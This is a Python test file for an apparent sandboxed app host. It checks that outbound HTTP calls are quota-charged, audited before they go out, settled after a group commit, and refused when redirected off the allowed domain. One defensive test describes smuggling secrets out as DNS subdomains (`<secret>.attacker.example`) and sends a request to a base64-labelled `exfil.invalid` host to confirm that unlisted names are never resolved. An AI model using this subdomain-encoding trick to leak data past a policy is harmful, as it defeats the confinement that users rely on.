"""An outbound HTTP request under a quota (the shipped baseline rates every bridge call),
through a real host, a confined child and a real loopback server: its decision and unit are
durable before the request goes out; its success waits for the group commit and lands before
the same app's next admission; a request the policy stops on a redirect is recorded and
settled by a commit of its own. A crash before the success commits is settled as
`outcome_unknown` with the unit kept (tests/store/test_ledger.py), as a crash during the
request itself is."""
from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from apphelp import install, write_app, write_policy
from test_spine_bridges import POLICY, Upstream  # the caller's http rule: crm.localtest

from host.home import Home
from host.runtime import Host, HostConfig

SRC = '''
from stockade import App, InvalidArgument, PermissionDenied

class TestApp(App):
    def on_livechat_room_started(self, ctx, event):
        out = []
        for url, headers in event["calls"]:
            try:
                out.append(ctx.http.request("GET", url, headers=headers)["status"])
            except PermissionDenied:
                out.append("denied")
            except InvalidArgument:
                out.append("invalid")
        return out
'''


@contextmanager
def _serving(tmp_path: Path) -> Iterator[tuple[Host, str]]:
    """A host under the shipped baseline (default-bridge-rate on "*") with the caller app, and
    the loopback upstream's base URL (crm.localtest, which the policy allows)."""
    home = Home(tmp_path / "home").ensure()
    write_policy(home, "bridges", POLICY)
    install(home, write_app(tmp_path / "apps", "caller", ["livechat.read", "http"],
                            ["livechat.room_started"], SRC))
    up = Upstream().start()
    config = HostConfig(resolver_overrides={"crm.localtest": "127.0.0.1",
                                            "other.localtest": "127.0.0.1"})
    try:
        with Host(home, config=config) as h:
            yield h, f"http://crm.localtest:{up.port}"
    finally:
        up.stop()


def _call(h: Host, calls: list[list[Any]]) -> list[Any]:
    runner = next(iter(h.runners.values()))
    return list(runner.submit("livechat.room_started", {"calls": calls}, 15.0).result(30))


def _records(h: Host) -> list[dict[str, Any]]:
    rows = h.ledger.store.conn().execute("SELECT seq, body FROM audit ORDER BY seq").fetchall()
    return [{"seq": int(r[0]), **json.loads(r[1])} for r in rows
            if '"http.request"' in r[1]]


def test_an_http_requests_success_waits_for_the_group_commit(tmp_path: Path) -> None:
    with _serving(tmp_path) as (h, base):
        assert h.ledger.batch is not None
        held: list[int] = []
        hold = h.ledger.hold_outcome

        def spy(seq: int, *args: Any, **kwargs: Any) -> None:
            held.append(seq)
            hold(seq, *args, **kwargs)
        h.ledger.hold_outcome = spy  # type: ignore[method-assign]
        urls = [f"{base}/ok", f"{base}/redir", f"{base}/ok"]  # /redir leaves the domain
        assert _call(h, [[u, {}] for u in urls]) == [200, "denied", 200]
        h.ledger.batch.flush()
        recs = _records(h)
        decisions = [r for r in recs if r["kind"] == "decision" and r["allowed"]]
        outcomes = {r["ref_seq"]: r for r in recs if r["kind"] == "outcome"}
        assert len(decisions) == 3 and set(outcomes) == {d["seq"] for d in decisions}
        # Each admitted durably with its unit (and intent) before the request went out.
        assert all(d["op_id"].startswith("op_") and d["quota"] for d in decisions)
        ok1, denied, ok2 = (outcomes[d["seq"]] for d in decisions)
        # The two successes waited for the group commit; the refusal did not.
        assert held == [decisions[0]["seq"], decisions[2]["seq"]]
        assert (ok1["ok"], ok1["refunded"], ok2["ok"], ok2["refunded"]) == (
            True, False, True, False)
        assert denied["ok"] is False and denied["code"] == "permission_denied"
        # A held success is committed before the same app's next admission (DESIGN rule 9).
        assert ok1["seq"] < decisions[1]["seq"]
        assert h.ledger.pending_intents() == [] and h.ledger.audit.verify().ok


def test_a_request_that_went_out_keeps_its_unit_though_it_failed(tmp_path: Path) -> None:
    """An answer over the size cap, or a redirect to a location that is no URL, fails the call
    after the request reached the server: the app sees `invalid_argument`, but the unit is kept
    (the server may have acted on it), where a request refused before anything was sent (a
    header that cannot go on the wire) gets it back. Refunding the first two would let an app
    send without limit to a server that answers big, or with such a redirect."""
    with _serving(tmp_path) as (h, base):
        calls = [[f"{base}/big", {}], [f"{base}/bad-location", {}],
                 [f"{base}/ok", {"X-Name": "caf\u00e9"}]]
        assert _call(h, calls) == ["invalid", "invalid", "invalid"]
        assert h.ledger.batch is not None
        h.ledger.batch.flush()
        outcomes = [r for r in _records(h) if r["kind"] == "outcome"]
        assert [(o["code"], o["refunded"]) for o in outcomes] == [
            ("invalid_argument", False), ("invalid_argument", False),
            ("invalid_argument", True)]
        assert h.ledger.pending_intents() == [] and h.ledger.audit.verify().ok


def test_a_name_no_permit_lists_is_never_looked_up(tmp_path: Path) -> None:
    """The gate resolves a request's host name before the policy decides (the engine checks the
    addresses), and a lookup is a DNS query to whoever serves that name: resolving every name
    an app asks for would let an app granted one domain send data out as names
    (`<secret>.attacker.example`), past the policy that refuses the request. So only a name a
    permit of the app's lists is looked up, on the first hop and on every redirect."""
    with _serving(tmp_path) as (h, base):
        asked: list[str] = []
        resolve = h.gate.resolve
        assert resolve is not None

        def recording(name: str) -> list[str]:
            asked.append(name)
            return resolve(name)
        h.gate.resolve = recording
        port = base.rsplit(":", 1)[1]
        calls = [[f"http://c2VjcmV0.exfil.invalid:{port}/ok", {}],
                 [f"{base}/redir", {}],  # a redirect to other.localtest, which no permit lists
                 [f"{base}/ok", {}]]
        assert _call(h, calls) == ["denied", "denied", 200]
        assert set(asked) == {"crm.localtest"}, asked  # the first hop, checked twice, each time
        assert h.ledger.batch is not None
        h.ledger.batch.flush()
        refused = [r for r in _records(h) if r["kind"] == "decision" and not r["allowed"]]
        assert len(refused) == 2  # still refused and audited, as before
        assert all("domains" in r["message"] for r in refused)
